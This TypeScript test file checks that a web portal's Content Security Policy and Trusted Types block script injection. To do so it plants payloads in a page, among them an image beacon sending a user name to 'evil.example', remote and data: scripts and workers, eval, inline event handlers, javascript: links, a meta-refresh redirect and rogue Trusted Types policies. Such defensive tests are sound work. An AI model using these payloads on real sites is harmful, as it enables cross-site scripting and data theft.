import { openPage, waitFor } from '@energycockpit/testing'
import { embed } from '../generic-features/embedded-element'
import { startForeignPages, type ForeignPages } from '../generic-features/foreign-pages'
import { remotes, startPortalWithRemotes } from '../generic-features/third-parties'
import type { PortalUnderTest } from '../journeys/portal-under-test'
import { drawLink, drawnLink } from '../links/drawn-link'
import { addressesOfMenu, reportedViolations, seePage } from './policy-walk'

let portal: PortalUnderTest
let intranet: ForeignPages
beforeAll(async () => {
  intranet = await startForeignPages()
  // Of this file alone: what other tests provoke must not be counted here.
  portal = await startPortalWithRemotes({ EMBEDDING_ORIGINS: intranet.origin })
}, 240_000)
afterAll(async () => {
  await portal?.stop()
  intranet?.stop()
})

const provider = '/auth/realms/energycockpit/protocol/openid-connect'

/*
 * The pages of our own features are not walked here: every journey fails when the policy refuses something in its page,
 * and between them they see all pages.
 */
test('no remote, dialog or sign-in step breaks the policy, and one that does is reported', async () => {
  const stranger = await portal.visitor('en')
  for (const path of ['static', 'register', 'legal', 'error', 'static?clientBusinessId=1000'])
    await seePage(stranger, `/platform/home-portal/${path}`)
  await stranger.goto('/platform/blocking-page')
  await stranger.page.getByRole('main').waitFor()
  await stranger.goto(`${provider}/auth?client_id=nobody`)
  await stranger.page.getByRole('heading', { level: 1 }).waitFor()
  await stranger.goto('/platform/home-portal')
  await stranger.page.getByRole('link', { name: 'Deutsch' }).click()
  await stranger.page.getByRole('link', { name: 'English' }).click()
  await stranger.page.getByLabel(stranger.words.userName).fill('nobody@nowhere.example')
  await stranger.page.getByLabel(stranger.words.password, { exact: true }).fill('wrong')
  await stranger.page.getByRole('button', { name: stranger.words.signIn, exact: true }).click()
  await stranger.page.getByRole('alert').waitFor()
  await stranger.signIn('system')
  await stranger.page.getByRole('heading', { level: 1, name: stranger.words.hello }).waitFor()
  await stranger.goto(`${provider}/logout`)
  await stranger.page.getByRole('heading', { level: 1 }).waitFor()
  await stranger.close(/missing actionToken|Failed to load resource.*(400|401)/)

  const system = await portal.visit('/platform/home-portal', { as: 'system' })
  const { page, context } = system
  const addresses = await addressesOfMenu(system)
  expect(addresses).toEqual(expect.arrayContaining(remotes.map(({ id }) => `/platform/${id}/a/b`)))
  for (const { id } of remotes) await seePage(system, `/platform/${id}/a/b`)

  for (const { id, heading } of remotes) {
    await page.evaluate((path) => history.pushState(null, '', path), `/platform/${id}/a/b`)
    await page.getByRole('heading', { level: 1, name: heading, exact: true }).waitFor()
    await page.getByRole('button', { name: 'Count' }).click()
  }
  await page.getByRole('button', { name: system.words.userMenu }).click()
  await page.keyboard.press('Escape')
  await drawLink(page, { href: 'https://elsewhere.example/', inShadow: false })
  await drawnLink(page).click()
  await page.getByRole('dialog').waitFor()
  await page.keyboard.press('Escape')
  await page.getByRole('dialog').waitFor({ state: 'detached' })
  const terms = page.getByRole('contentinfo').getByRole('link', { name: /terms/i })
  await terms.click()
  await page.getByRole('dialog').getByRole('heading').first().waitFor()
  await page.keyboard.press('Escape')

  const foreign = await context.newPage()
  await foreign.goto(intranet.origin)
  for (const { id, heading } of remotes) {
    await embed(foreign, portal.server.url, { 'feature-id': id, 'sign-in': '' })
    await foreign.getByRole('heading', { name: heading, exact: true }).waitFor()
  }
  await foreign.getByRole('button', { name: /^Sign in to/ }).click()
  await foreign.getByText(/^Signed in as ./).waitFor()
  await foreign.goto(`${intranet.origin}/?frame=${portal.server.url}/platform/home-portal/legal`)
  await foreign.frames()[1]?.getByRole('heading', { level: 1 }).first().waitFor()
  await foreign.close()

  expect(await reportedViolations(system)).toEqual([])
  await page.evaluate(() => {
    document.body.append(
      Object.assign(document.createElement('img'), { src: 'https://evil.example/?user=anna' }),
    )
  })
  // Reports arrive in their order, so nothing that came before this one is still on its way.
  await waitFor('the planted violation', async () => (await reportedViolations(system)).length > 0)
  expect(await reportedViolations(system)).toEqual([
    expect.objectContaining({ directive: 'img-src', blocked: 'https://evil.example', reports: 1 }),
  ])
  await system.close(/evil\.example/)
}, 180_000)

test('what would run or draw a text stays refused, by one policy beside which there is no other', async () => {
  const { page, context, close } = await openPage(portal.browser)
  await page.goto(`${portal.server.url}/platform/home-portal/legal`)
  await page.getByRole('heading', { level: 1 }).waitFor()
  const admitted = await page.evaluate(async () => {
    type View = Record<'createHTML' | 'createScriptURL', (text: string) => unknown>
    type Factory = { createPolicy(name: string, rules: object): View }
    const { trustedTypes } = window as unknown as { trustedTypes: Factory }
    const native = Object.getPrototypeOf(trustedTypes) as Factory
    const ran = () => Reflect.has(window, 'planted')
    const plant = 'window.planted = true'
    const markup = `<img src="/favicon.svg" onload="${plant}">`
    const box = document.body.appendChild(document.createElement('div'))
    const script = document.createElement('script')
    const frame = document.createElement('iframe')
    const all = { createHTML: (text: string) => text, createScript: (text: string) => text }
    /** Each throws when it is refused. */
    const attempts: Record<string, () => unknown> = {
      innerHTML: () => (box.innerHTML = markup),
      outerHTML: () => (box.outerHTML = markup),
      insertAdjacentHTML: () => box.insertAdjacentHTML('beforeend', markup),
      'shadow innerHTML': () =>
        (document.createElement('p').attachShadow({ mode: 'open' }).innerHTML = markup),
      'document.write': () => document.write(markup),
      createContextualFragment: () => document.createRange().createContextualFragment(markup),
      parseFromString: () => new DOMParser().parseFromString(markup, 'text/html'),
      srcdoc: () => (frame.srcdoc = markup),
      'script.src of another origin': () => (script.src = 'https://evil.example/x.js'),
      'script.src of data': () => (script.src = `data:text/javascript,${plant}`),
      'script.text': () => (script.text = plant),
      'script.textContent': () => (script.textContent = plant),
      eval: () => (0, eval)(plant),
      'new Function': () => new Function(plant)(),
      'a timer of text': () => setInterval(plant),
      'a worker of another origin': () => new Worker('https://evil.example/x.js'),
      'a worker of data': () => new Worker(`data:text/javascript,${plant}`),
      'a second default': () => native.createPolicy.call(trustedTypes, 'default', all),
      'a policy of webpack': () => native.createPolicy.call(trustedTypes, 'webpack', all),
      'a policy of any name': () => native.createPolicy.call(trustedTypes, 'evil', all),
      'a policy of a library, past the portal': () => native.createPolicy.call(trustedTypes, 'lit-html', all),
      'a policy of any name, by the portal': () => trustedTypes.createPolicy('evil', all),
      'a bypass of Angular': () => trustedTypes.createPolicy('angular#unsafe-bypass', all),
      'a script by the policy of a library': () => {
        script.src = trustedTypes
          .createPolicy('angular', all)
          .createScriptURL('https://evil.example/x.js') as string
      },
      'a page to go to, by the policy of a library': () => {
        box.innerHTML = trustedTypes
          .createPolicy('vue', all)
          .createHTML('<p><meta http-equiv="refresh" content="0; url=https://evil.example/">') as string
      },
    }
    // Out of the debugger's reach, which may evaluate where the page may not.
    await new Promise(requestAnimationFrame)
    const passed = Object.entries(attempts).flatMap(([name, attempt]) => {
      try {
        attempt()
        return [name]
      } catch {
        return []
      }
    })

    /** These throw nothing; what they would do must not happen. */
    const link = Object.assign(document.createElement('a'), { href: `javascript:${plant}` })
    box.append(link, frame)
    link.click()
    // What a library draws of a text, as v-html does, may hold markup and nothing that runs.
    box.appendChild(document.createElement('div')).innerHTML = trustedTypes
      .createPolicy('vue', all)
      .createHTML(`${markup}<script>${plant}</script><svg onload="${plant}"></svg>`) as string
    const handler = document.createElement('button')
    try {
      handler.setAttribute('onclick', plant)
    } catch {
      // Newer browsers refuse the attribute itself.
    }
    handler.click()
    frame.src = `javascript:parent.planted = true`
    const sent = await Promise.allSettled([fetch('https://evil.example/'), fetch('http://127.0.0.1:9/')])
    for (let drawn = 0; drawn < 5; drawn += 1) await new Promise(requestAnimationFrame)
    return [
      ...passed,
      ...sent.flatMap(({ status }) => (status === 'fulfilled' ? ['fetch'] : [])),
      ...(ran() ? ['something ran'] : []),
    ]
  })
  expect(admitted).toEqual([])
  // As a text, because jest would turn the imports into something else.
  const imported = `Promise.allSettled([import('https://evil.example/x.js'), import('data:text/javascript,0')])
    .then((all) => all.map(({ status }) => status))`
  expect(await page.evaluate(imported)).toEqual(['rejected', 'rejected'])
  expect(context.pages()).toHaveLength(1)
  await close(/./)
})
